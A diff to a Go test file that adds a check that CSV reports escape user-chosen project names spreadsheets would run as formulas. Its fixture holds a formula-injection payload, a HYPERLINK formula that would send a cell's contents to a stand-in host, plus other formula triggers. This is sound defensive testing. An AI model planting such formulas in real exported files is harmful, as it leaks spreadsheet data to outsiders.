@@ -2,6 +2,8 @@ package cli
 
 import (
 	"bytes"
+	"encoding/csv"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -30,4 +32,19 @@ func TestReportFitsTerminal(t *testing.T) {
 	}
 	words := strings.Join(strings.Fields(text.String()), " ")
 	expect.True(t, strings.Contains(words, " of it idle; ") && strings.Contains(words, "what happened in the rest is not known."), words)
+}
+
+// A spreadsheet takes no name that a user has chosen for a formula.
+func TestReportHasNoFormulas(t *testing.T) {
+	var out bytes.Buffer
+	expect.OK(t, writeCSV(&app{out: newTerminal(&out)}, usage.Report{Lines: []usage.Line{
+		{User: "ada", Project: `=HYPERLINK("http://x/?"&A1,"x")`}, {Project: "+1"}, {Project: "-1"}, {Project: "@SUM(A1)"}, {Project: "vision = 1"}, {},
+	}}))
+	records, err := csv.NewReader(&out).ReadAll()
+	expect.OK(t, err)
+	var got []string
+	for _, r := range records[1:] {
+		got = append(got, r[1])
+	}
+	expect.Equal(t, fmt.Sprint(got), `['=HYPERLINK("http://x/?"&A1,"x") '+1 '-1 '@SUM(A1) vision = 1 ]`)
 }
